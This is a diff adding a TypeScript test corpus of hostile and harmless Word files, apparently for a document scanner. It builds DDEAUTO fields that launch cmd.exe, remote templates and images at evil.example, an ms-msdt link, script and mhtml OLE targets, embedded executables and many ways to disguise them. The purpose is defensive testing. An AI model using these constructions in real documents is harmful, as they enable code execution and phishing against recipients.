@@ -1,0 +1,331 @@
+import {
+  contentTypes,
+  doc,
+  documentOf,
+  docx,
+  docxRelated,
+  docxWithBody,
+  field,
+  relationshipsOf,
+} from "../kit/word.ts";
+import type { HostileFile } from "./hostile-corpus.ts";
+import { hostileOldWord } from "./hostile-old-word.ts";
+import { named } from "./named-files.ts";
+
+/** Word documents that start or fetch something when they are opened, and some that hide what they do. */
+export function hostileWord(): HostileFile[] {
+  return [...docxFiles(), ...hostileOldWord()];
+}
+
+/** Word documents as honest people have them, near to what is refused. */
+export function honestWord(): HostileFile[] {
+  const web = "https://village.example/rules?a=1&amp;b=2";
+  const docxs: [string, Buffer][] = [
+    [
+      "links",
+      docxRelated([
+        { type: "hyperlink", target: web, isExternal: true },
+        { type: "hyperlink", target: "mailto:office@village.example", isExternal: true },
+        { type: "hyperlink", target: "file:///C:/Users/asha/scan.pdf", isExternal: true },
+        { type: "hyperlink", target: "scan.pdf", isExternal: true },
+        { type: "image", target: "media/image1.png" },
+      ]),
+    ],
+    ["link by a field", docxWithBody(field(' HYPERLINK "https://village.example" '))],
+    ["page number", docxWithBody(field(" PAGE ") + field(" DATE \\@ ", '"d MMM"'))],
+    ["fields in fields", docxWithBody(`${field(" IF 1 = 1 ")}${sumOfPages}`)],
+    ["text about DDE", docxWithBody("<w:p><w:r><w:t>DDEAUTO is refused</w:t></w:r></w:p>")],
+    [
+      "made from a template",
+      docxRelated(
+        [
+          {
+            type: "attachedTemplate",
+            target: "file:///C:\\Users\\asha\\Templates\\Letter.dotx",
+            isExternal: true,
+          },
+        ],
+        "settings",
+      ),
+    ],
+    ["in UTF-16", docx([utf16("word/document.xml", documentOf("<w:p/>"))])],
+    ["with a font", docx([typed("word/fonts/f.odttf", fontType), font])],
+  ];
+  const docs: [string, Buffer][] = [
+    ["links", doc({ text: ['See \u0013 HYPERLINK "https://a.example" \u0014here\u0015.\r'] })],
+    ["page number", doc({ text: ["Page \u0013", " PAGE ", "\u00141\u0015\r"] })],
+    ["text about DDE", doc({ text: ["DDEAUTO is refused\r"] })],
+    ["made from a template", doc({ template: "C:\\Templates\\Letter.dot" })],
+    ["empty pool of objects", doc({ more: [{ name: "ObjectPool", isStorage: true }] })],
+  ];
+  return [...named("docx", docxs, "taken"), ...named("doc", docs, "taken")];
+}
+
+function docxFiles(): HostileFile[] {
+  const evil = "https://evil.example/a";
+  const external = (type: string, target = evil, of = "document"): [string, Buffer] => [
+    `external ${type} ${target} of ${of}`,
+    docxRelated([{ type, target, isExternal: true }], of),
+  ];
+  const outside: [string, Buffer][] = [
+    external("attachedTemplate", evil, "settings"),
+    external("attachedTemplate", "\\\\evil.example\\share\\t.dotm", "settings"),
+    external("attachedTemplate", "file://evil.example/share/t.dotm", "settings"),
+    external("attachedTemplate", "file:////evil.example/share/t.dotm", "settings"),
+    external("oleObject"),
+    external("oleObject", "mhtml:https://evil.example/a!x-usc:https://evil.example/a"),
+    external("oleObject", "script:https://evil.example/a.sct"),
+    external("image"),
+    external("image", "\\\\evil.example\\a.png", "header1"),
+    external("frame", evil, "webSettings"),
+    external("subDocument"),
+    external("aFChunk"),
+    external("mailMergeSource", "file:///C:/data.mdb", "settings"),
+    external("hyperlink", "javascript:alert(1)"),
+    external("hyperlink", "ms-msdt:/id PCWDiagnostic"),
+    external("hyperlink", "\\\\evil.example\\share"),
+    external("hyperlink", "file://evil.example/share"),
+    external("hyperlink", "search-ms:query=a"),
+    ["image inside that is outside", docxRelated([{ type: "image", target: evil }])],
+    ["picture by its address", docxWithBody(`<w:p><v:imagedata src="${evil}"/></w:p>`)],
+    [
+      "drawing by its address",
+      docx([
+        typed("word/media/a.svg", "image/svg+xml"),
+        {
+          name: "word/media/a.svg",
+          content: `<svg xmlns="http://www.w3.org/2000/svg"><image href="${evil}"/></svg>`,
+        },
+      ]),
+    ],
+    [
+      "relationships in UTF-16",
+      docx([
+        utf16(
+          "word/_rels/document.xml.rels",
+          relationshipsOf([{ type: "image", target: evil, isExternal: true }]),
+        ),
+      ]),
+    ],
+    [
+      "relationships with another prefix",
+      docx([
+        {
+          name: "word/_rels/document.xml.rels",
+          content: relationshipsOf([{ type: "image", target: evil, isExternal: true }])
+            .replaceAll("<Relationship", "<p:Relationship")
+            .replaceAll("</Relationship", "</p:Relationship")
+            .replace("xmlns=", "xmlns:p="),
+        },
+      ]),
+    ],
+    [
+      "target written in numbers",
+      docxRelated([{ type: "image", target: "&#104;ttps://evil.example/a", isExternal: true }]),
+    ],
+    [
+      "mode written in numbers",
+      docx([
+        {
+          name: "word/_rels/document.xml.rels",
+          content: relationshipsOf([{ type: "image", target: "a", isExternal: true }]).replace(
+            "External",
+            "Exte&#x72;nal",
+          ),
+        },
+      ]),
+    ],
+  ];
+
+  const command = " c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; ";
+  const fields: [string, Buffer][] = [
+    ["DDEAUTO", docxWithBody(field(` DDEAUTO${command}`))],
+    ["DDE", docxWithBody(field(` DDE${command}`))],
+    ["dde in small letters", docxWithBody(field(` dDeAuTo${command}`))],
+    ["DDEAUTO over runs", docxWithBody(field(" D", "DE", "AU", "TO ", command))],
+    ["DDEAUTO over runs with spaces", docxWithBody(field("D ", " DE", ` AUTO${command}`))],
+    ["DDEAUTO behind spaces", docxWithBody(field(" ".repeat(50_000), `DDEAUTO${command}`))],
+    ["DDEAUTO in numbers", docxWithBody(field(` &#68;&#x44;EAUTO${command}`))],
+    ["DDEAUTO in CDATA", docxWithBody(field(` <![CDATA[DDE]]>AUTO${command}`))],
+    ["DDEAUTO beside a comment", docxWithBody(field(` DD<!-- -->EAUTO${command}`))],
+    ["DDEAUTO in full width", docxWithBody(field(` ＤＤＥＡＵＴＯ${command}`))],
+    [
+      "DDEAUTO without an end",
+      docxWithBody(
+        field(` DDEAUTO${command}`).split('<w:r><w:fldChar w:fldCharType="separate"')[0]! +
+          "</w:p>",
+      ),
+    ],
+    ["DDEAUTO in w:t", docxWithBody(field(` DDEAUTO${command}`).replaceAll("instrText", "t"))],
+    ["DDEAUTO in a simple field", docxWithBody(`<w:fldSimple w:instr=" DDEAUTO${command}"/>`)],
+    ["DDEAUTO in a field", docxWithBody(around(field(` DDEAUTO${command}`)))],
+    ["name made by a field", docxWithBody(around(field(" QUOTE 68 68 69 "), ""))],
+    ["rest of a name made by a field", docxWithBody(around(field(" QUOTE 68 69 "), " D"))],
+    [
+      "letters marked as deleted",
+      docxWithBody(
+        field(" D", "DEAUTO").replace(
+          "<w:r><w:instrText",
+          "<w:del><w:r><w:delInstrText>PAGE</w:delInstrText></w:r></w:del><w:r><w:instrText",
+        ),
+      ),
+    ],
+    [
+      "another prefix",
+      docxWithBody(
+        field(` DDEAUTO${command}`)
+          .replaceAll("w:", "q:")
+          .replace(
+            "<q:p",
+            '<q:p xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main"',
+          ),
+      ),
+    ],
+    [
+      "strict",
+      docx([
+        {
+          name: "word/document.xml",
+          content: documentOf(field(` DDEAUTO${command}`))
+            .replace(
+              "schemas.openxmlformats.org/wordprocessingml/2006/main",
+              "purl.oclc.org/ooxml/wordprocessingml/main",
+            )
+            .replace("http://purl", "http://purl"),
+        },
+      ]),
+    ],
+    ["INCLUDEPICTURE", docxWithBody(field(` INCLUDEPICTURE &quot;${evil}&quot; \\d `))],
+    ["INCLUDETEXT", docxWithBody(field(` INCLUDETEXT &quot;${evil}&quot; `))],
+    ["LINK", docxWithBody(field(` LINK Excel.Sheet.8 &quot;\\\\\\\\evil\\\\a.xls&quot; `))],
+    ["in UTF-16", docx([utf16("word/document.xml", documentOf(field(` DDEAUTO${command}`)))])],
+    ...["header1", "footer1", "footnotes", "endnotes", "comments", "glossary/document"].map(
+      (part): [string, Buffer] => [
+        `DDEAUTO in ${part}`,
+        docx([{ name: `word/${part}.xml`, content: documentOf(field(` DDEAUTO${command}`)) }]),
+      ],
+    ),
+    [
+      "DDEAUTO in a part called otherwise",
+      docx([
+        typed("word/a.bin", "application/xml"),
+        { name: "word/a.bin", content: documentOf(field(" DDEAUTO ")) },
+      ]),
+    ],
+  ];
+  const objects: [string, Buffer][] = [
+    ["page brought along", docxWithBody('<w:altChunk r:id="rId1"/>')],
+    ["page of a relationship", docxRelated([{ type: "aFChunk", target: "a.xml" }])],
+    [
+      "page itself",
+      docx([typed("word/a.html", "text/html"), { name: "word/a.html", content: "<script/>" }]),
+    ],
+    ["object in the text", docxWithBody("<w:p><w:r><w:object/></w:r></w:p>")],
+    ["embedded program", docx([{ name: "word/embeddings/setup.exe", content: "MZ" }])],
+    ["embedded program in capitals", docx([{ name: "WORD/Embeddings/A.EXE", content: "MZ" }])],
+    ["embedded sheet", docx([{ name: "word/embeddings/sheet.xlsx", content: docx() }])],
+    ["program beside", docx([{ name: "setup.exe", content: "MZ" }])],
+    [
+      "program as a picture",
+      docx([
+        typed("word/media/a.exe", "application/x-msdownload"),
+        { name: "word/media/a.exe", content: "MZ" },
+      ]),
+    ],
+    ["control", docx([{ name: "word/activeX/activeX1.xml", content: "<a/>" }])],
+    ["control in the text", docxWithBody("<w:p><w:r><w:control/></w:r></w:p>")],
+    [
+      "declared entity",
+      docx([
+        {
+          name: "word/document.xml",
+          content: documentOf("").replace(
+            "<w:document",
+            '<!DOCTYPE w [<!ENTITY d "DDEAUTO">]><w:document',
+          ),
+        },
+      ]),
+    ],
+  ];
+  const hidden: [string, Buffer][] = [
+    ["code that Word leaves out", docxWithBody(field(" ZZ</w:instrText><x:a/><w:instrText>DDE"))],
+    [
+      "begin that Word leaves out",
+      docxWithBody(
+        field(" PAGE ")
+          .replace("<w:p>", "<w:p><x:a>")
+          .replace("<w:r><w:instr", "</x:a><w:r><w:instr")
+          .replace("</w:p>", "</w:p>"),
+      ),
+    ],
+    ["mark of another kind", docxWithBody('<w:p><w:fldChar w:fldCharType="x"/></w:p>')],
+    ["mark of nobody's", docxWithBody('<w:p><x:fldChar x:fldCharType="begin"/></w:p>')],
+    [
+      "text in an old code",
+      docx([
+        {
+          name: "word/document.xml",
+          content: Buffer.concat([
+            Buffer.from('<?xml version="1.0" encoding="utf-7"?>'),
+            Buffer.from(documentOf("").split("?>")[1]!),
+          ]),
+        },
+      ]),
+    ],
+    [
+      "text as a picture",
+      docx([
+        typed("word/header1.xml", "image/png"),
+        { name: "word/header1.xml", content: documentOf(field(" DDE ")) },
+      ]),
+    ],
+    ["elements inside each other", docxWithBody("<w:p>".repeat(300) + "</w:p>".repeat(300))],
+    [
+      "more text than anybody reads",
+      docxWithBody(`<w:p><w:r><w:t>${"x".repeat(9 * 1024 * 1024)}</w:t></w:r></w:p>`),
+    ],
+    [
+      "list of a megabyte",
+      docx([
+        { name: "word/_rels/a.xml.rels", content: relationshipsOf([]) + " ".repeat(1_100_000) },
+      ]),
+    ],
+  ];
+  const list = (content: string) => docx([{ name: "[Content_Types].xml", content }]);
+  const broken: [string, Buffer][] = [
+    ["elements that never end", list("<Override ".repeat(100_000))],
+    ["types that never end", list(`<Override ContentType="${"<Override ".repeat(90_000)}`)],
+    ["entity that nobody declared", docxWithBody("<w:p>&d;</w:p>")],
+    ["text that is cut off", docxWithBody("<w:p>")],
+    [
+      "text that is no text",
+      docx([{ name: "word/document.xml", content: Buffer.from([0x3c, 0xff, 0xfe]) }]),
+    ],
+  ];
+  return [
+    ...named("docx", [...outside, ...fields, ...objects], "active"),
+    ...named("docx", hidden, "uncheckable"),
+    ...named("docx", broken, "corrupted"),
+  ];
+}
+
+const fontType = "application/vnd.openxmlformats-officedocument.obfuscatedFont";
+const font = { name: "word/fonts/f.odttf", content: Buffer.from([1, 2, 3, 4]) };
+const sumOfPages = around(field(" PAGE "), " = ");
+
+/** A list of content types with one more. */
+function typed(name: string, type: string) {
+  return {
+    name: "[Content_Types].xml",
+    content: contentTypes(`<Override PartName="/${name}" ContentType="${type}"/>`),
+  };
+}
+
+function utf16(name: string, text: string) {
+  return { name, content: Buffer.from(`\uFEFF${text}`, "utf16le") };
+}
+
+/** A field with another one in its code. */
+function around(inner: string, before = " IF 1 = 1 "): string {
+  return field(`${before}</w:instrText></w:r></w:p>${inner}<w:p><w:r><w:instrText>`);
+}
